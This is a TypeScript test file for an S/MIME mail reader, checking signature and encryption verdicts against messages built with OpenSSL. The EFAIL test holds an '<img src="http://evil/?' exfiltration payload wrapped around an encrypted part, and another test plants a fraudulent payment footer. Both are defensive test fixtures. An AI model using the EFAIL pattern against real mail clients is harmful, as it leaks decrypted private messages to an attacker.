/**
 * The reader's view against messages made by OpenSSL: every status of the vocabulary, triple wrap,
 * EFAIL-style nesting, and protected headers.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { openMessage } from './open.js';
import { createCertificateValidator } from '../pki/create-validator.js';
import { softwareKey } from '../software-key.js';
import { collectBytes, toByteStream } from '../stream-types.js';
import { certificateDer, pkiBytes, pkiFile, privateKey } from '../../../test/helpers/pki.js';
import { openTestMessage } from '../../../test/helpers/open-message.js';

let work: string;
before(() => {
  work = mkdtempSync(join(tmpdir(), 'cachet-open-'));
});
after(() => rmSync(work, { recursive: true, force: true }));

const validator = () => createCertificateValidator({ trustAnchors: [pkiBytes('ca.pem')] });
const BODY = 'Content-Type: text/plain; charset=us-ascii\r\n\r\nThe quarterly figures are attached.\r\n';

function openssl(args: string[], input: string | Buffer): Buffer {
  const file = join(work, `in-${Math.random().toString(36).slice(2)}`);
  writeFileSync(file, input);
  return execFileSync('openssl', ['cms', ...args, '-in', file], { stdio: ['ignore', 'pipe', 'pipe'], maxBuffer: 256 * 1024 * 1024 });
}

function sign(name: string, entity: string | Buffer, opaque = false): Buffer {
  return openssl(['-sign', '-signer', pkiFile(`${name}.pem`), '-inkey', pkiFile(`${name}.key`), '-md', 'sha256', ...(opaque ? ['-nodetach'] : [])], entity);
}

function encrypt(name: string, entity: string | Buffer): Buffer {
  return openssl(['-encrypt', '-aes-256-cbc', '-recip', pkiFile(`${name}.pem`)], entity);
}

function withHeaders(from: string, message: Buffer, subject = 'Figures'): Buffer {
  return Buffer.concat([Buffer.from(`From: ${from}\r\nTo: bob@example.com\r\nSubject: ${subject}\r\n`), message]);
}

test('valid: signed by the From address, trusted — detached and opaque', async () => {
  for (const opaque of [false, true]) {
    const { report, content } = await openTestMessage(withHeaders('Alice <alice@example.com>', sign('alice', BODY, opaque)));
    assert.equal(report.status, 'valid');
    assert.equal(report.encrypted, false);
    assert.deepEqual(report.from, ['alice@example.com']);
    assert.equal(report.signers[0]?.email[0], 'alice@example.com');
    assert.match(content, /quarterly figures/);
  }
});

test('untrusted: no trust anchors, or a CA nobody trusts (eve claims to be alice)', async () => {
  assert.equal((await openTestMessage(withHeaders('alice@example.com', sign('alice', BODY)), { trust: false })).report.status, 'untrusted');
  const eve = await openTestMessage(withHeaders('alice@example.com', sign('eve', BODY)));
  assert.equal(eve.report.status, 'untrusted');
  assert.match(eve.report.signers[0]?.error?.message ?? '', /Bars Root CA/);
});

test('invalid: one byte of the signed text changed', async () => {
  const signed = withHeaders('alice@example.com', sign('alice', BODY)).toString('latin1').replace('quarterly', 'quarterlY');
  assert.equal((await openTestMessage(Buffer.from(signed, 'latin1'))).report.status, 'invalid');
});

test('mismatch: valid and trusted, but the From address is someone else', async () => {
  assert.equal((await openTestMessage(withHeaders('carol@example.com', sign('alice', BODY)))).report.status, 'mismatch');
  assert.equal((await openTestMessage(withHeaders('alice@example.com, carol@example.com', sign('alice', BODY)))).report.status, 'mismatch');
});

test('From in every RFC 5322 form a client writes, comments included: valid only for the signer', async () => {
  const signed = sign('alice', BODY);
  for (const from of ['alice@example.com (Alice Example)', 'Alice (work) <alice@example.com> (sent from my phone)', '"Example, Alice" <ALICE@example.com>', '(Smith, Mallory) alice@example.com']) {
    assert.equal((await openTestMessage(withHeaders(from, signed))).report.status, 'valid', from);
  }
  // A comment or a quoted name is never taken for the address.
  for (const from of ['carol@example.com (alice@example.com)', '"alice@example.com" <carol@example.com>', '(alice@example.com, ) carol@example.com', 'alice@example.com (unclosed comment, carol@example.com']) {
    assert.notEqual((await openTestMessage(withHeaders(from, signed))).report.status, 'valid', from);
  }
});

test('content without a MIME header (openssl smime without -text): opened as plain text with an empty header, never a failure', async () => {
  const bare = 'Just a line of text, no MIME header.\r\nSecond line: still text.\r\n';
  const signed = await openTestMessage(withHeaders('alice@example.com', sign('alice', bare, true)));
  assert.equal(signed.report.status, 'valid');
  assert.equal(signed.content, `\r\n${bare}`, 'the signed bytes, after an empty header');
  assert.ok(signed.report.warnings.some((w) => /no MIME header/.test(w)));
  const binary = randomBytes(100_000);
  const encrypted = await openTestMessage(withHeaders('alice@example.com', encrypt('bob', binary)), { key: 'bob' });
  assert.equal(encrypted.report.status, 'not-signed');
  assert.equal(encrypted.report.encrypted, true);
  // A tampered bare message is still invalid.
  const tampered = Buffer.from(withHeaders('alice@example.com', sign('alice', bare)).toString('latin1').replace('Second line', 'Second lime'), 'latin1');
  assert.equal((await openTestMessage(tampered)).report.status, 'invalid');
});

test('partially-signed: a signed part inside unsigned content with a footer added', async () => {
  const signedPart = sign('alice', BODY).toString('latin1');
  const mixed = [
    'From: alice@example.com',
    'Subject: list mail',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="outer"',
    '',
    '--outer',
    signedPart.trimEnd(),
    '--outer',
    'Content-Type: text/plain',
    '',
    'Unsubscribe: click here. Also, wire the money to account 123.',
    '--outer--',
    '',
  ].join('\r\n');
  const { report } = await openTestMessage(Buffer.from(mixed, 'latin1'));
  assert.equal(report.status, 'partially-signed');
  assert.equal(report.signedParts.length, 1);
  assert.equal(report.signedParts[0]?.valid, true);
  assert.deepEqual(report.unsignedParts, ['2']);
  assert.equal(report.valid, null);
  // The same verdict from stored mail with bare LF line ends.
  const streamed = await openMessage(toByteStream(Buffer.from(mixed.replace(/\r\n/g, '\n'), 'latin1')), { decryptors: [], validator: validator() });
  try {
    assert.equal(streamed.report.status, 'partially-signed');
    assert.deepEqual(streamed.report.signedParts.map((p) => [p.path, p.valid, p.trusted]), [['1', true, true]]);
    assert.deepEqual(streamed.report.unsignedParts, ['2']);
  } finally {
    await streamed.dispose();
  }
});

test('partially-signed through malformed structure: an empty part, a header run into a delimiter, a damaged part', async () => {
  const signedPart = sign('alice', BODY).toString('latin1');
  const mixed = [
    'From: alice@example.com',
    'Content-Type: multipart/mixed; boundary="outer"',
    '',
    '--outer',
    '--outer',
    'Content-Type: text/plain',
    '--outer',
    'this line is not a header field',
    '',
    'text',
    '--outer',
    signedPart.trimEnd(),
    '--outer--',
    '',
  ].join('\r\n');
  const { report } = await openTestMessage(Buffer.from(mixed, 'latin1'));
  assert.equal(report.status, 'partially-signed');
  assert.deepEqual(report.signedParts.map((p) => [p.path, p.valid, p.trusted]), [['4', true, true]]);
  assert.deepEqual(report.unsignedParts, ['1', '2', '3']);
  assert.ok(!report.warnings.some((w) => /could not be read/.test(w)), report.warnings.join('; '));
});

test('encrypted only: not-signed, encrypted, decrypted content released', async () => {
  const { report, content } = await openTestMessage(withHeaders('alice@example.com', encrypt('bob', BODY)), { key: 'bob' });
  assert.equal(report.status, 'not-signed');
  assert.equal(report.encrypted, true);
  assert.equal(report.layers[0]?.kind, 'encrypted');
  assert.match(content, /quarterly figures/);
});

test('triple wrap: signed, encrypted, signed — valid and encrypted, three layers', async () => {
  const inner = sign('alice', BODY);
  const encrypted = encrypt('bob', inner);
  const outer = sign('alice', encrypted);
  const { report, content } = await openTestMessage(withHeaders('alice@example.com', outer), { key: 'bob' });
  assert.deepEqual(report.layers.map((l) => l.kind), ['signed', 'encrypted', 'signed']);
  assert.equal(report.status, 'valid');
  assert.equal(report.encrypted, true);
  assert.match(content, /quarterly figures/);
});

test('EFAIL: an encrypted part inside unencrypted content is not decrypted into the view', async () => {
  const encryptedPart = encrypt('bob', BODY).toString('latin1');
  const mixed = ['From: mallory@example.com', 'Content-Type: multipart/mixed; boundary="x"', '', '--x', 'Content-Type: text/html', '', '<img src="http://evil/?', '--x', encryptedPart.trimEnd(), '--x--', ''].join('\r\n');
  const { report, content } = await openTestMessage(Buffer.from(mixed, 'latin1'), { key: 'bob' });
  assert.equal(report.encrypted, false);
  assert.equal(report.status, 'not-signed');
  assert.doesNotMatch(content, /quarterly figures/);
  assert.ok(report.warnings.some((w) => /not decrypted/.test(w)));
  const streamed = await openMessage(toByteStream(Buffer.from(mixed, 'latin1')), { decryptors: [{ certificate: certificateDer('bob'), key: softwareKey(privateKey('bob')) }] });
  try {
    assert.equal(streamed.report.encrypted, false);
    assert.deepEqual(streamed.report.unsignedParts, []);
    assert.ok(streamed.report.warnings.some((w) => /part 2 is encrypted/.test(w)));
    assert.doesNotMatch((await collectBytes(streamed.content)).toString(), /quarterly figures/);
  } finally {
    await streamed.dispose();
  }
});

test('protected headers: the signed Subject wins and the difference is reported', async () => {
  const entity = `Subject: The real subject\r\nFrom: alice@example.com\r\n${BODY}`;
  const { report } = await openTestMessage(withHeaders('alice@example.com', sign('alice', entity), 'Tampered outer subject'));
  assert.equal(report.status, 'valid');
  assert.equal(report.headers.protected, true);
  assert.equal(report.headers.subject, 'The real subject');
  assert.deepEqual(report.headers.differences.map((d) => d.field), ['subject']);
});

test('protected headers, Thunderbird v1 under sign+encrypt: the signed From and Subject win over a rewritten outer header', async () => {
  const entity = [
    'Content-Type: multipart/mixed; boundary="tb"; protected-headers="v1"',
    'From: Alice <alice@example.com>',
    'To: bob@example.com',
    'Subject: Merger plans',
    '',
    '--tb',
    BODY.trimEnd(),
    '--tb--',
    '',
  ].join('\r\n');
  const message = withHeaders('carol@example.com', encrypt('bob', sign('alice', entity)), '...');
  const { report } = await openTestMessage(message, { key: 'bob' });
  assert.equal(report.status, 'valid');
  assert.equal(report.encrypted, true);
  assert.equal(report.headers.scheme, 'protected-headers-v1');
  assert.equal(report.headers.subject, 'Merger plans');
  assert.deepEqual(report.from, ['alice@example.com']);
  assert.deepEqual(report.headers.differences.map((d) => d.field), ['from']);
});

test('RFC 9788 hp="clear" with HP-Outer: the declared outer header is no difference', async () => {
  const entity = `Content-Type: text/plain; charset=us-ascii; hp="clear"\r\nFrom: alice@example.com\r\nTo: bob@example.com\r\nSubject: Figures\r\nHP-Outer: From: alice@example.com\r\nHP-Outer: To: bob@example.com\r\nHP-Outer: Subject: Figures\r\n\r\nThe quarterly figures are attached.\r\n`;
  const { report } = await openTestMessage(withHeaders('alice@example.com', sign('alice', entity)));
  assert.equal(report.status, 'valid');
  assert.equal(report.headers.scheme, 'rfc9788');
  assert.deepEqual(report.headers.differences, []);
});

test('bare CMS input: DER, PEM and bare base64 opaque SignedData and DER EnvelopedData are unwrapped', async () => {
  const der = openssl(['-sign', '-nodetach', '-signer', pkiFile('alice.pem'), '-inkey', pkiFile('alice.key'), '-md', 'sha256', '-outform', 'DER'], BODY);
  const pem = openssl(['-sign', '-nodetach', '-signer', pkiFile('alice.pem'), '-inkey', pkiFile('alice.key'), '-md', 'sha256', '-outform', 'PEM'], BODY);
  // The PEM body without its armour, as a base64 paste: the same answer as `cachet verify` gives.
  const base64 = Buffer.from(pem.toString('latin1').replace(/-----[^-]+-----\r?\n?/g, ''), 'latin1');
  for (const input of [der, pem, base64]) {
    const { report, content } = await openTestMessage(input);
    assert.deepEqual(report.layers.map((l) => l.kind), ['signed']);
    assert.equal(report.valid, true);
    assert.equal(report.trusted, true);
    // A bare CMS object has no From header: nothing to match the signer with.
    assert.equal(report.status, 'mismatch');
    assert.match(content, /quarterly figures/);
  }
  const enveloped = openssl(['-encrypt', '-aes-128-cbc', '-recip', pkiFile('bob.pem'), '-outform', 'DER'], BODY);
  const { report, content } = await openTestMessage(enveloped, { key: 'bob' });
  assert.equal(report.encrypted, true);
  assert.equal(report.status, 'not-signed');
  assert.match(content, /quarterly figures/);
});

test('tolerant reading: x-pkcs7 types, uppercase media types, LF-only stored mail, no smime-type', async () => {
  const signed = withHeaders('alice@example.com', sign('alice', BODY, true)).toString('latin1');
  const legacy = signed
    .replace(/application\/pkcs7-mime; smime-type=signed-data;/i, 'APPLICATION/X-PKCS7-MIME;')
    .replace(/\r\n/g, '\n');
  const { report, content } = await openTestMessage(Buffer.from(legacy, 'latin1'));
  assert.equal(report.status, 'valid');
  assert.match(content, /quarterly figures/);
  const detached = withHeaders('alice@example.com', sign('alice', BODY)).toString('latin1').replace(/\r\n/g, '\n').replace('application/pkcs7-signature', 'application/x-pkcs7-signature');
  assert.equal((await openTestMessage(Buffer.from(detached, 'latin1'))).report.status, 'valid');
});

test('certs-only: declared, or only named smime.p7c; the certificates are collected, not-signed', async () => {
  const p7 = execFileSync('openssl', ['crl2pkcs7', '-nocrl', '-certfile', pkiFile('alice.pem'), '-outform', 'DER']);
  const base64 = p7.toString('base64').replace(/.{1,76}/g, '$&\r\n');
  for (const type of ['application/pkcs7-mime; smime-type=certs-only', 'application/x-pkcs7-mime; name="smime.p7c"']) {
    const message = Buffer.from(`From: alice@example.com\r\nContent-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}`);
    const result = await openMessage(toByteStream(message), { decryptors: [] });
    try {
      assert.deepEqual(result.report.layers, [{ kind: 'certs-only', certificates: 1 }]);
      assert.equal(result.report.status, 'not-signed');
      assert.deepEqual(result.certificates.map((c) => Buffer.from(c).toString('hex')), [certificateDer('alice').toString('hex')]);
    } finally {
      await result.dispose();
    }
  }
});

test('RFC 8551 §3.1 message/rfc822 wrapper: the embedded header is shown', async () => {
  const embedded = 'From: alice@example.com\r\nTo: bob@example.com\r\nSubject: The real subject\r\nContent-Type: text/plain\r\n\r\nWrapped.\r\n';
  const wrapped = `Content-Type: message/rfc822\r\n\r\n${embedded}`;
  const message = withHeaders('alice@example.com', sign('alice', wrapped), 'Changed on the way');
  // Signed-only mail: no decryptors needed.
  const result = await openMessage(toByteStream(message), { validator: validator() });
  try {
    assert.equal(result.report.status, 'valid');
    assert.equal(result.report.headers.subject, 'The real subject');
    assert.deepEqual(result.report.headers.differences.map((d) => d.field), ['subject']);
  } finally {
    await result.dispose();
  }
});

/** A text entity of about `size` bytes: a short line, then a base64 attachment (distinct lines). */
function largeEntity(size: number): Buffer {
  const lines: string[] = [];
  const raw = Buffer.alloc(57);
  for (let i = 0, length = 0; length < size; i++) {
    raw.writeUInt32BE(i, 0);
    raw.fill(i & 0xff, 4);
    const line = raw.toString('base64');
    lines.push(line);
    length += line.length + 2;
  }
  return Buffer.from(
    'Content-Type: multipart/mixed; boundary="big"\r\n\r\n--big\r\nContent-Type: text/plain\r\n\r\nThe data follows.\r\n' +
      `--big\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines.join('\r\n')}\r\n--big--\r\n`,
    'latin1',
  );
}

test('content beyond the spool memory bound (every layer spilled, read back in reused memory): same verdicts, exact content', async () => {
  const entity = largeEntity(10 * 1024 * 1024);
  // Triple wrap: each layer's spool spills, and the next layer reads it back.
  const inner = sign('alice', entity);
  const outer = sign('alice', encrypt('bob', inner));
  const result = await openMessage(toByteStream(withHeaders('alice@example.com', outer)), {
    decryptors: [{ certificate: certificateDer('bob'), key: softwareKey(privateKey('bob')) }],
    validator: validator(),
  });
  try {
    assert.deepEqual(result.report.layers.map((l) => l.kind), ['signed', 'encrypted', 'signed']);
    assert.equal(result.report.status, 'valid');
    assert.equal(result.report.encrypted, true);
    // What OpenSSL says the innermost signature covers, byte for byte, however it is read.
    const covered = openssl(['-verify', '-noverify'], inner);
    assert.ok((await collectBytes(result.content)).equals(covered), 'the content as fresh chunks');
    const copies: Buffer[] = [];
    for await (const chunk of result.readContent({ reuse: true })) copies.push(Buffer.from(chunk));
    assert.ok(Buffer.concat(copies).equals(covered), 'the content in reused memory');
  } finally {
    await result.dispose();
  }

  // A large signed part inside unsigned content, walked as it streams: the part is verified, not the message.
  const mixed = Buffer.concat([
    Buffer.from('From: alice@example.com\r\nSubject: list mail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\n'),
    inner,
    Buffer.from('\r\n--outer\r\nContent-Type: text/plain\r\n\r\nA footer the list added.\r\n--outer--\r\n'),
  ]);
  const { report: partial } = await openTestMessage(mixed);
  assert.equal(partial.status, 'partially-signed');
  assert.deepEqual(partial.signedParts.map((p) => [p.path, p.valid, p.trusted]), [['1', true, true]]);
  assert.deepEqual(partial.unsignedParts, ['2']);
  // One byte changed in the large signed content: invalid, never valid.
  const tampered = Buffer.from(inner);
  const at = tampered.indexOf('AAAA', 5 * 1024 * 1024);
  assert.ok(at > 0, 'a run of A to change');
  tampered[at] = 0x42;
  assert.equal((await openTestMessage(withHeaders('alice@example.com', tampered))).report.status, 'invalid');
});

test("a signed forward whose content is only another author's message reads as the forwarder's mail, valid", async () => {
  const entity = `Content-Type: message/rfc822\r\n\r\nFrom: carol@example.com\r\nSubject: Original\r\nContent-Type: text/plain\r\n\r\nThe original text.\r\n`;
  const { report, content } = await openTestMessage(withHeaders('alice@example.com', sign('alice', entity), 'Fwd: Original'));
  assert.equal(report.status, 'valid');
  assert.equal(report.headers.from, 'alice@example.com');
  assert.equal(report.headers.subject, 'Fwd: Original');
  assert.match(content, /The original text/);
});
